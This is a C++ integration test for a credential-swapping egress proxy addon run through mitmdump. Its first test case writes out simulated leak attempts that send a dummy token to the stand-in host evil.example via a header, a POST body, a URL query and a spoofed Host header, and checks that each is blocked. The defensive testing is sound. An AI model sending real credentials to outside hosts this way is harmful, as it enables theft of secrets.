// The egress addon (libbottle/share/egress/bottle_egress.py) in real mitmdump, driven
// by curl, against a fake HTTPS upstream reached through a parent proxy standing in for
// pipelock. All on 127.0.0.1 with certificates made here; nothing leaves the machine.
// The fake upstream logs what it receives, so "never reached upstream" is checked, not
// assumed. Token values are test strings; assertions test booleans so none is printed.

#include <catch2/catch.hpp>

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <boost/json.hpp>
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <optional>
#include <stdexcept>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "../unit/temp_dir.hpp"
#include "bottle/egress_config.hpp"
#include "bottle/subprocess.hpp"
#include "net_harness.hpp"
#include "test_paths.hpp"

namespace fs = std::filesystem;
using namespace std::chrono_literals;

namespace {

using namespace net_harness;


const std::string codex_dummy = "dummy-codex-access-0001";
const std::string claude_dummy = "dummy-claude-key-0002";
const std::string broken_dummy = "dummy-broken-0003";

struct Reply {
  int status = 0;
  std::string body;
};

// Everything one test needs: certificates, fake network, mitmdump with the addon.
class Egress {
 public:
  explicit Egress(const std::vector<bottle::EgressRoute>& routes) {
    const fs::path& d = dir_.path();
    make_certs(d);
    net_.emplace(std::vector<std::string>{"python3", fake_net_script(), "serve", (d / "server.pem").string(),
                                          (d / "server.key").string(), (d / "ports.json").string(),
                                          upstream_log().string(), (d / "parent.log").string()},
                 d / "fake_net.out");
    REQUIRE(wait_until([&] { return fs::exists(d / "ports.json"); }, 20s));
    const auto ports = boost::json::parse(read_file(d / "ports.json")).as_object();
    const auto parent_port = ports.at("parent").as_int64();

    write_file(d / "routes.json", bottle::render_egress_routes(routes));
    port_ = free_port();
    const auto argv = bottle::mitmdump_argv(
        {.listen_host = "127.0.0.1",
         .listen_port = port_,
         .confdir = (d / "conf").string(),
         .addon_path = std::string(test_paths::source_dir) + "/libbottle/share/egress/bottle_egress.py",
         .routes_path = (d / "routes.json").string(),
         .upstream_proxy = "http://127.0.0.1:" + std::to_string(parent_port),
         .upstream_trusted_ca = (d / "ca.pem").string()});
    mitm_.emplace(argv, egress_log());
    const bool up = wait_until([&] { return !mitm_->running() || port_open(port_); }, 30s);
    INFO("egress log:\n" << read_file(egress_log()));
    REQUIRE(up);
    REQUIRE(mitm_->running());
    REQUIRE(fs::exists(ca()));
  }

  fs::path path(const std::string& name) const { return dir_.path() / name; }
  fs::path egress_log() const { return path("egress.log"); }
  fs::path upstream_log() const { return path("upstream.log"); }
  fs::path ca() const { return path("conf/mitmproxy-ca-cert.pem"); }
  std::uint16_t port() const { return port_; }

  Reply curl(const std::string& url, const std::vector<std::string>& extra = {}) const {
    std::vector<std::string> argv = {"curl", "-sS", "--max-time", "20", "--noproxy", "",
                                     "--proxy", "http://127.0.0.1:" + std::to_string(port_),
                                     "--cacert", ca().string(), "-w", "\n%{http_code}", url};
    argv.insert(argv.end(), extra.begin(), extra.end());
    const auto r = run(argv);
    INFO("curl stderr: " << r.err);
    REQUIRE(r.ok());
    const auto nl = r.out.rfind('\n');
    return {std::stoi(r.out.substr(nl + 1)), r.out.substr(0, nl)};
  }

  // Header `name` of the request the upstream received for `url_path`; nullopt if it
  // received none, "<none>" if the request lacked the header.
  std::optional<std::string> upstream_header(const std::string& url_path, const std::string& name) const {
    std::istringstream lines(read_file(upstream_log()));
    for (std::string line; std::getline(lines, line);) {
      const auto rec = boost::json::parse(line).as_object();
      if (rec.at("path").as_string() != url_path) continue;
      const auto& headers = rec.at("headers").as_object();
      return headers.contains(name) ? std::string(headers.at(name).as_string()) : "<none>";
    }
    return std::nullopt;
  }

 private:
  TempDir dir_;
  std::optional<Daemon> net_;
  std::optional<Daemon> mitm_;
  std::uint16_t port_ = 0;
};

bottle::EgressRoute route(std::string name, std::string host, std::string header, std::string dummy,
                          const fs::path& file, std::string pointer = "") {
  return {.name = std::move(name), .hosts = {std::move(host)}, .header = std::move(header),
          .dummy = std::move(dummy), .value_file = file.string(), .value_json_pointer = std::move(pointer)};
}

}  // namespace

TEST_CASE("egress addon: real credentials on bound hosts only, fresh from the host file", "[egress]") {
  TempDir host;  // the host's credential files
  const auto codex_file = host.path() / "auth.json";
  const auto claude_file = host.path() / "claude-key";
  write_file(codex_file, R"({"tokens": {"access_token": "real-codex-one"}})");
  write_file(claude_file, "  real-claude-key\n");
  Egress egress({route("codex", "chatgpt.com", "Authorization", codex_dummy, codex_file, "/tokens/access_token"),
                 route("claude", "api.anthropic.com", "x-api-key", claude_dummy, claude_file),
                 route("broken", "broken.example", "Authorization", broken_dummy, host.path() / "absent")});
  const std::string bearer = "Authorization: Bearer " + codex_dummy;

  // Bound host: the dummy inside the header becomes the real value (pointer, trimmed file).
  CHECK(egress.curl("https://chatgpt.com/models", {"-H", bearer}).status == 200);
  CHECK(egress.upstream_header("/models", "Authorization") == "Bearer real-codex-one");
  CHECK(egress.curl("https://api.anthropic.com/v1/messages", {"-H", "x-api-key: " + claude_dummy}).status == 200);
  CHECK(egress.upstream_header("/v1/messages", "x-api-key") == "real-claude-key");
  // No dummy: passed through untouched.
  CHECK(egress.curl("https://chatgpt.com/plain", {"-H", "Authorization: Bearer other"}).status == 200);
  CHECK(egress.upstream_header("/plain", "Authorization") == "Bearer other");

  // A dummy anywhere in a request to a host it is not bound to: 403, never forwarded.
  const std::string blocked = "blocked by bottle egress: credential for codex sent to evil.example\n";
  const auto in_header = egress.curl("https://evil.example/leak-header", {"-H", bearer});
  CHECK(in_header.status == 403);
  CHECK(in_header.body == blocked);
  CHECK(egress.curl("https://evil.example/leak-body", {"--data", "token=" + codex_dummy}).body == blocked);
  CHECK(egress.curl("https://evil.example/leak-url?t=" + codex_dummy).status == 403);
  const auto other_route = egress.curl("https://api.anthropic.com/leak-cross", {"-H", bearer});
  CHECK(other_route.status == 403);
  CHECK(other_route.body == "blocked by bottle egress: credential for codex sent to api.anthropic.com\n");
  const auto spoofed = egress.curl("https://chatgpt.com/leak-host", {"-H", bearer, "-H", "Host: evil.example"});
  CHECK(spoofed.status == 403);
  CHECK(egress.curl("https://evil.example/fine").status == 200);  // the host itself is reachable
  for (const auto* p : {"/leak-header", "/leak-body", "/leak-cross", "/leak-host"}) {
    INFO(p);
    CHECK_FALSE(egress.upstream_header(p, "Authorization"));
  }
  CHECK_FALSE(egress.upstream_header("/leak-url?t=" + codex_dummy, "Authorization"));

  // A host-side refresh (atomic rename) is used by the very next request.
  replace_file(codex_file, R"({"tokens": {"access_token": "real-codex-two"}})");
  CHECK(egress.curl("https://chatgpt.com/after-refresh", {"-H", bearer}).status == 200);
  CHECK(egress.upstream_header("/after-refresh", "Authorization") == "Bearer real-codex-two");

  // The real value cannot be read: 502 with a clear message, the dummy is not forwarded.
  const auto unavailable = egress.curl("https://broken.example/x", {"-H", "Authorization: " + broken_dummy});
  CHECK(unavailable.status == 502);
  CHECK(contains(unavailable.body, "credential for broken is unavailable"));
  CHECK_FALSE(egress.upstream_header("/x", "Authorization"));

  // The WebSocket upgrade request (how Codex streams turns) gets the swap too.
  const auto ws = run({"python3", fake_net_script(), "ws", std::to_string(egress.port()),
                       egress.ca().string(), "chatgpt.com", "/backend-api/codex/responses", "Authorization",
                       "Bearer " + codex_dummy});
  INFO("ws client stderr: " << ws.err);
  CHECK(ws.out == "HTTP/1.1 101 Switching Protocols\nhello\n");
  CHECK(egress.upstream_header("/backend-api/codex/responses", "Authorization") == "Bearer real-codex-two");

  // The log is JSON lines naming host, route and action; no real value, no dummy.
  const auto log = read_file(egress.egress_log());
  for (const auto* secret : {"real-codex-one", "real-codex-two", "real-claude-key"}) CHECK_FALSE(contains(log, secret));
  for (const auto& dummy : {codex_dummy, claude_dummy, broken_dummy}) CHECK_FALSE(contains(log, dummy));
  CHECK(contains(log, R"("action": "403", "event": "blocked", "host": "evil.example")"));
  CHECK(contains(log, R"("event": "injected", "header": "Authorization", "host": "chatgpt.com", "route": "codex", "websocket": true})"));
  CHECK(contains(log, R"("action": "502", "event": "value_unavailable", "host": "broken.example")"));
}

TEST_CASE("egress addon: a bad routes file stops mitmdump (fail closed)", "[egress]") {
  TempDir dir;
  write_file(dir.path() / "routes.json",
             R"({"version": 1, "routes": [{"name": "x", "hosts": ["a.example"], "header": "A", "dummy": "short",)"
             R"( "value_file": "/nonexistent"}]})");
  auto argv = bottle::mitmdump_argv({.listen_host = "127.0.0.1",
                                     .listen_port = free_port(),
                                     .confdir = (dir.path() / "conf").string(),
                                     .addon_path = std::string(test_paths::source_dir) +
                                                   "/libbottle/share/egress/bottle_egress.py",
                                     .routes_path = (dir.path() / "routes.json").string(),
                                     .upstream_proxy = std::nullopt,
                                     .upstream_trusted_ca = std::nullopt});
  argv.insert(argv.begin(), {"timeout", "60"});
  const auto r = run(argv);
  INFO("stdout: " << r.out << "\nstderr: " << r.err);
  CHECK(r.outcome == bottle::ProcessResult::Outcome::exited);
  CHECK(r.code == 1);
  CHECK(contains(r.out + r.err, "routes[0]: needs hosts, a header and a dummy of >= 8 characters"));
}
